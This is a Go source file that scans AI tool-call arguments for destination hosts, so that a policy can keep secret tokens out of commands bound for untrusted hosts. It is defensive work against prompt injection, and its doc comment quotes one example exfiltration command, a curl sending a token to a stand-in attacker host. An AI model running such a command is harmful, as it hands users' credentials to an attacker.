// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The hush Authors

package stream

import (
	"bytes"
	"slices"
)

// hostScanner finds the destination hosts named in a tool call's arguments,
// for the destination policy: a GitHub token is not restored into
// `curl https://evil.example/?t=...`. It reads the arguments as they
// travel (escaped for one or two JSON layers), byte by byte, so the hosts
// it finds do not depend on how the arguments were split, and it keeps
// only the current word (bounded) and the hosts found (bounded).
//
// What counts as a host, in each whitespace- or quote-separated word:
//   - after "://" (any scheme): https://user@host:443/path gives host;
//   - after "@" when no "://": git@github.com:org/repo gives github.com;
//   - a dotted name followed by '/', '?' or ":<digit>" at the start of a
//     word: github.com/org/repo or evil.example:8080.
//
// A bare "config.yaml" is not a host: file names would otherwise deny
// every vendor token in every command that names a file. The limits are
// deliberate: a destination assembled at run time ($HOST, base64) cannot be
// seen in the arguments; the policy narrows what a prompt injection can do
// with a plain URL, it is not a sandbox.
type hostScanner struct {
	word     []byte // the current word, its first maxWord bytes
	escaped  bool   // the last byte was a backslash
	hosts    []string
	overflow bool // more than maxHosts distinct hosts
}

// unknownHost stands for a destination the arguments build at run time.
const unknownHost = "?"

const (
	maxWord  = 512
	maxHosts = 64
)

// write scans more of the arguments.
func (h *hostScanner) write(p []byte) {
	for _, c := range p {
		if c == '\\' {
			h.escaped = true
			continue
		}
		if h.escaped {
			// However many JSON layers deep, backslashes only escape:
			// drop them, and read an escaped control character as
			// whitespace. (\uXXXX leaves its digits as a word of
			// their own.)
			h.escaped = false
			switch c {
			case 'n', 'r', 't', 'b', 'f', 'u':
				h.endWord()
				continue
			}
		}
		if isWordDelim(c) {
			h.endWord()
			continue
		}
		if len(h.word) < maxWord {
			h.word = append(h.word, c)
		}
	}
}

// close ends the last word.
func (h *hostScanner) close() { h.escaped = false; h.endWord() }

func isWordDelim(c byte) bool {
	switch c {
	case ' ', '\t', '\n', '\r', '"', '\'', '`', '(', ')', '{', '}', '<', '>', ',', ';', '|', '&', '=', '!', '*':
		return true
	}
	return false
}

func (h *hostScanner) endWord() {
	if len(h.word) > 0 {
		for _, host := range wordHosts(h.word) {
			h.add(host)
		}
	}
	h.word = h.word[:0]
}

func (h *hostScanner) add(host string) {
	if slices.Contains(h.hosts, host) {
		return
	}
	if len(h.hosts) >= maxHosts {
		h.overflow = true
		return
	}
	h.hosts = append(h.hosts, host)
}

// wordHosts returns the hosts one word names.
func wordHosts(w []byte) []string {
	var out []string
	if bytes.Contains(w, []byte("://")) {
		for rest := w; ; {
			i := bytes.Index(rest, []byte("://"))
			if i < 0 {
				break
			}
			scheme := schemeBefore(rest[:i])
			rest = rest[i+3:]
			if host, ok := storageSchemes[scheme]; ok {
				// s3://bucket/key names a bucket, not a host: the
				// credential goes to the cloud's API, whoever owns it.
				out = append(out, host)
				continue
			}
			auth := rest[:indexAny(rest, "/?#")]
			if at := bytes.LastIndexByte(auth, '@'); at >= 0 {
				auth = auth[at+1:]
			}
			// An empty host ("https://" + h in code) is a destination
			// nobody can check: it matches no host pattern but "*".
			host := hostOf(auth)
			if host == "" {
				host = unknownHost
			}
			out = append(out, host)
		}
		return out
	}
	if at := bytes.LastIndexByte(w, '@'); at >= 0 {
		rest := w[at+1:]
		if host := hostOf(rest[:indexAny(rest, "/:")]); host != "" && isDotted(host) {
			out = append(out, host)
		}
		return out
	}
	n := dottedPrefix(w)
	if n > 0 && n < len(w) && (w[n] == '/' || w[n] == '?' || w[n] == ':' && n+1 < len(w) && w[n+1] >= '0' && w[n+1] <= '9') {
		out = append(out, string(bytes.ToLower(w[:n])))
	}
	return out
}

// storageSchemes are URL schemes whose "host" is a bucket, mapped to the
// API host the credential is actually sent to.
var storageSchemes = map[string]string{
	"s3": "s3.amazonaws.com", "s3a": "s3.amazonaws.com", "s3n": "s3.amazonaws.com",
	"gs": "storage.googleapis.com",
}

// schemeBefore returns the lowercase URL scheme that ends b (the bytes
// before "://").
func schemeBefore(b []byte) string {
	i := len(b)
	for i > 0 && (isSchemeByte(b[i-1])) {
		i--
	}
	return string(bytes.ToLower(b[i:]))
}

func isSchemeByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '+' || c == '-' || c == '.'
}

// hostOf normalizes an authority without userinfo: lowercase, no port, no
// trailing dot. An IPv6 literal keeps its brackets.
func hostOf(a []byte) string {
	if len(a) > 0 && a[0] == '[' {
		if i := bytes.IndexByte(a, ']'); i > 0 {
			return string(bytes.ToLower(a[:i+1]))
		}
		return string(bytes.ToLower(a))
	}
	if i := bytes.IndexByte(a, ':'); i >= 0 {
		a = a[:i]
	}
	a = bytes.TrimSuffix(a, []byte("."))
	return string(bytes.ToLower(a))
}

func indexAny(b []byte, chars string) int {
	if i := bytes.IndexAny(b, chars); i >= 0 {
		return i
	}
	return len(b)
}

func isDotted(host string) bool { return dottedPrefix([]byte(host)) == len(host) }

// dottedPrefix returns the length of the host name at the start of w: at
// least two labels of [A-Za-z0-9-], the last of letters only and at least
// two long (a top-level domain), or an IPv4 address. 0 if none.
func dottedPrefix(w []byte) int {
	labels, lastStart, i := 0, 0, 0
	for {
		j := i
		for j < len(w) && (isAlnum(w[j]) || w[j] == '-') {
			j++
		}
		if j == i {
			break
		}
		labels++
		lastStart = i
		if j < len(w) && w[j] == '.' && j+1 < len(w) && isAlnum(w[j+1]) {
			i = j + 1
			continue
		}
		i = j
		break
	}
	if labels < 2 {
		return 0
	}
	last := w[lastStart:i]
	if isIPv4(w[:i]) {
		return i
	}
	if len(last) < 2 {
		return 0
	}
	for _, c := range last {
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z') {
			return 0
		}
	}
	return i
}

func isIPv4(b []byte) bool {
	parts := bytes.Split(b, []byte("."))
	if len(parts) != 4 {
		return false
	}
	for _, p := range parts {
		if len(p) == 0 || len(p) > 3 {
			return false
		}
		for _, c := range p {
			if c < '0' || c > '9' {
				return false
			}
		}
	}
	return true
}

func isAlnum(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
}
